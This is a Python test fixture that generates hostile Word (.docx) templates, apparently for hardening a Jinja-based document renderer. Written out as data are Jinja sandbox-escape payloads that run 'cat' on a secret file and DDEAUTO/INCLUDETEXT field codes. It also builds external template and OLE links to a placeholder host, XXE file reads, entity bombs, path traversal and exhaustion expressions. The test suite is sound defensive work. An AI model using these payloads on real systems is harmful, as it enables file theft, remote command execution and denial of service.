"""A hundred and more Word templates that want something: (name → file)."""

import zipfile
from io import BytesIO

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SECRET = "BÍ MẬT 7f3a"  # stands in a file that many of them want
HERE, HOST = "{secret}", "{host}"  # put in by the test: that file, a server that listens


def docx(body="", *, xml=None, rels="", types="", parts=None, main=_MAIN, head=""):
    """Return a small .docx; `rels` and `types` go into the relations and content types of its text."""
    text = xml or f"{head}<w:document {W} {R}><w:body>{body}<w:sectPr/></w:body></w:document>"
    members = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>',
        "_rels/.rels": _relations(f'<Relationship Id="r1" Type="{_REL}/officeDocument" '
        'Target="word/document.xml"/>'),
        "word/document.xml": text,
        "word/_rels/document.xml.rels": _relations(rels),
        **(parts or {}),
    }  # fmt: skip
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


def _relations(inner):
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{inner}</Relationships>"
    )


def paragraph(text):
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<w:p><w:r><w:t xml:space="preserve">{escaped}</w:t></w:r></w:p>'


def said(text):
    return docx(paragraph(text))


def related(kind, target, mode='TargetMode="External"'):
    relation = f'<Relationship Id="r9" Type="{_REL}/{kind}" Target="{target}" {mode}/>'
    return docx(paragraph("a"), rels=relation)


def field(instruction):
    inner = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in instruction.split("|"))
    return docx(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/>{inner}'
        '<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


WALKS = [
    "{{ ''.__class__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ().__class__.__bases__[0] }}", "{{ (1).__class__ }}", "{{ muc.__init__ }}",
    "{{ DT01.__class__.__init__.__globals__ }}", "{{ DT01['__class__'] }}", "{{ ''['__class__'] }}",
    "{{ self }}", "{{ self.__init__.__globals__ }}", "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('cat {secret}').read() }}",
    "{{ lipsum.__globals__['os'].popen('cat {secret}').read() }}", "{{ joiner }}", "{{ namespace }}",
    "{{ range(10) }}", "{{ dict(a=1) }}", "{{ config }}", "{{ request }}", "{{ settings }}",
    "{{ '{0.__class__}'.format(ky) }}", "{{ ky.format_map({}) }}", "{{ ky|attr('__class__') }}",
    "{{ muc|map(attribute='__class__')|list }}", "{{ ky|xmlattr }}", "{{ muc|pprint }}",
    "{{ muc.append(1) }}", "{{ muc.pop() }}", "{{ DT01.update({}) }}", "{{ DT01.items() }}",
    "{{ ky.upper() }}", "{{ noi_nhan.sort() }}", "{{ ky.encode() }}", "{{ noi_nhan.__add__ }}",
    "{% set x = muc.__class__ %}{{ x }}", "{% for d in noi_nhan %}{{ loop.__init__ }}{% endfor %}",
    "{% for d in noi_nhan %}{{ loop._iterator }}{% endfor %}", "{{ caller() }}", "{{ super() }}",
    "{{ open('{secret}').read() }}", "{{ __import__('os') }}", "{{ ky|safe }}", "{{ ky|tojson }}",
    "{{ ky|urlize }}", "{% debug %}", "{{ ky is callable }}", "{{ ky is filter }}",
]  # fmt: skip
STATEMENTS = [
    "{% include '{secret}' %}", "{% include ['a', '{secret}'] ignore missing %}",
    "{% import '{secret}' as x %}", "{% from '{secret}' import x %}", "{% extends '{secret}' %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "{% do muc.append(1) %}",
    "{% call x() %}{% endcall %}", "{% trans %}a{% endtrans %}", "{% for a in %}", "{% if %}",
    "{{ ky", "{% endfor %}", "{% block a %}{{ self.a() }}{% endblock %}", "{{ 1/0 }}",
    "{{ 'a' + 1 }}", "{{ khong_co_ten_nay }}", "{{ DT01.khong_co }}",
    "{% autoescape false %}{{ '<w:fldSimple w:instr=\"INCLUDETEXT {secret}\"/>' }}{% endautoescape %}",
    "{% autoescape false %}{{ '</w:t></w:r></w:p><w:altChunk/>' }}{% endautoescape %}",
]  # fmt: skip
GREEDY = [
    "{{ '9' * 10**9 }}", "{{ 9**(9**9) }}", "{{ [0] * 10**9 }}", "{{ 'a' ~ ('b' * 10**9) }}",
    "{{ ky|default('x' * 10**9) }}{{ ('x' * 10**9)|length }}", "{{ 10**100000 }}",
    "{{ '%1000000000d' % 1 }}",
    "{% for a in phu_luc %}{% for b in phu_luc %}{% for c in phu_luc %}{% for d in phu_luc %}"
    "{% if d.ten == ky %}x{% endif %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
    "{% for a in phu_luc %}{% for b in phu_luc %}{% for c in phu_luc %}{{ phu_luc }}"
    "{% endfor %}{% endfor %}{% endfor %}",
    "{{ " + "(" * 5000 + "ky" + ")" * 5000 + " }}",
]  # fmt: skip
FIELDS = [
    'INCLUDETEXT "{secret}"', 'INCLUDEPICTURE "{host}/a.png"', "DDE excel a b", "DDEAUTO cmd /c a",
    'LINK Excel.Sheet "{secret}"', 'HYPERLINK "{host}"', "MACROBUTTON AutoOpen a",
    'IMPORT "{secret}"', 'DATABASE \\d "{secret}"', 'IN|CLU|DETEXT "{secret}"', 'RD "{secret}"',
    'AUTOTEXT "a"', 'ASK a "b"', "{{ 'INCLUDETEXT' }} a",
]  # fmt: skip
RELATIONS = {
    "template": ("attachedTemplate", "{host}/a.dotm", 'TargetMode="External"'),
    "picture": ("image", "{host}/a.png", 'TargetMode="External"'),
    "file as picture": ("image", "file://{secret}", 'TargetMode="External"'),
    "hyperlink": ("hyperlink", "{host}", 'TargetMode="External"'),
    "linked object": ("oleObject", "file://{secret}", 'TargetMode="External"'),
    "network share": ("image", "\\\\host\\share\\a.png", 'TargetMode="External"'),
    "mode by references": ("image", "{host}/a", 'TargetMode="Ext&#101;rnal"'),
    "mode in small letters": ("image", "{host}/a", 'TargetMode="external"'),
    "no mode": ("image", "file://{secret}", ""),
    "no mode, share": ("image", "//host/share/a", ""),
    "out of the package": ("image", "a/../../../../etc/passwd", ""),
    "subdocument": ("subDocument", "{host}/a.docx", 'TargetMode="External"'),
    "frame": ("frame", "{host}/a.htm", 'TargetMode="External"'),
}
ELEMENTS = {
    "altChunk": '<w:altChunk r:id="r9"/>',
    "object": "<w:p><w:r><w:object/></w:r></w:p>",
    "control": '<w:p><w:r><w:control r:id="r9"/></w:r></w:p>',
    "subDoc": '<w:p><w:subDoc r:id="r9"/></w:p>',
    "VML picture": '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
    'src="{host}/a.png"/></w:pict></w:r></w:p>',
    "VML link": '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
    'href="{host}"/></w:pict></w:r></w:p>',
    "XInclude": '<w:p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
    'href="file://{secret}" parse="text"/></w:p>',
    "processing instruction": "<w:p><?xml-stylesheet href='{host}/a.xsl'?></w:p>",
    "field within a field": '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:fldChar '
    'w:fldCharType="begin"/><w:instrText>QUOTE 73 78</w:instrText><w:fldChar '
    'w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    "simple field": '<w:p><w:fldSimple w:instr=" includetext {secret}"/></w:p>',
}
PARTS = {
    "macro": {"word/vbaProject.bin": b"x"},
    "macro data": {"word/vbaData.xml": "<a/>"},
    "embedded object": {"word/embeddings/oleObject1.bin": b"x"},
    "ActiveX": {"word/activeX/activeX1.xml": "<a/>"},
    "chunk of HTML": {"word/afchunk.htm": "<html/>"},
    "program": {"word/media/a.exe": b"MZ"},
    "picture that is SVG": {"word/media/a.svg": "<svg onload='a()'/>"},
    "way up": {"../../etc/a.xml": "<a/>"},
    "absolute way": {"/etc/a.xml": "<a/>"},
    "mail merge": {"word/settings.xml": f"<w:settings {W}><w:mailMerge/></w:settings>"},
    "broken part": {"word/styles.xml": "<w:styles"},
}
_BOMB = '<!DOCTYPE a [<!ENTITY a "{a}"><!ENTITY b "' + "&a;" * 1000 + '">]>'
DOCUMENTS = {
    "DOCTYPE": docx(head='<!DOCTYPE a SYSTEM "{host}/a.dtd">'),
    "entity of a file": docx(
        "<w:p><w:r><w:t>&a;</w:t></w:r></w:p>",
        head='<!DOCTYPE a [<!ENTITY a SYSTEM "file://{secret}">]>',
    ),
    "entities far behind": docx(head=f"<!--{'x' * 9000}-->{_BOMB}"),
    "entities in UTF-16": docx(
        xml=f'<?xml version="1.0" encoding="utf-16"?>{_BOMB}<a/>'.encode("utf-16")
    ),
    "cut off": docx(xml=f"<w:document {W}><w:body><w:p>"),
    "not XML": docx(xml=b"\x00\x01\x02"),
    "another root": docx(xml="<a/>"),
    "deep": docx("<w:p>" * 20_000 + "</w:p>" * 20_000),
    "long": docx(paragraph("{{ ky }}") * 150_000),
    "bomb": docx(xml=b"<a>" + b" " * 29_000_000 + b"</a>"),
    "macro type": docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "no text": b"PK\x05\x06" + bytes(18),
    "HTML": b"<html><script>a()</script></html>",
    "old Word": b"\xd0\xcf\x11\xe0" + bytes(512),
    "empty": b"",
    "crossed loops": docx(
        paragraph("{% for a in noi_nhan %}") + "<w:tbl><w:tblGrid/><w:tr><w:tc>"
        + paragraph("{% endfor %}") + "</w:tc></w:tr></w:tbl>"
    ),
}  # fmt: skip


def hostile() -> dict[str, bytes]:
    """Return all of them."""
    return {
        **{text[:70]: said(text) for text in (*WALKS, *STATEMENTS)},
        **{f"field {text}": field(text) for text in FIELDS},
        **{f"relation {name}": related(*row) for name, row in RELATIONS.items()},
        **{f"element {name}": docx(xml_) for name, xml_ in ELEMENTS.items()},
        **{f"part {name}": docx(paragraph("a"), parts=row) for name, row in PARTS.items()},
        **{f"document {name}": data for name, data in DOCUMENTS.items()},
    }
